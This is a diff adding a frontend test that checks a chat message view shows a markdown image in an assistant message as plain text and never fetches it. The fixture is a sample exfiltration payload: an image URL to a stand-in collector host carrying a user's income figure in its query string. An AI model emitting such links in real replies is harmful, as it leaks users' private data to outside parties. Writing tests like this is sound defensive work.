@@ -18,4 +18,11 @@ describe('messages', () => {
     expect(container.querySelector('img, script')).toBeNull();
     expect(screen.getByText('risky').getAttribute('href') ?? '').not.toMatch(/javascript/i);
   });
+
+  it('a markdown image is shown as its words and never fetched (its URL could carry data out)', () => {
+    const { container } = render(<MessageView message={assistant('See ![chart](https://collector.example/p.png?d=income-5400) now')} />);
+    expect(container.querySelector('img')).toBeNull();
+    expect(container).toHaveTextContent('See [image: chart] now');
+    expect(container.innerHTML).not.toContain('collector.example');
+  });
 });
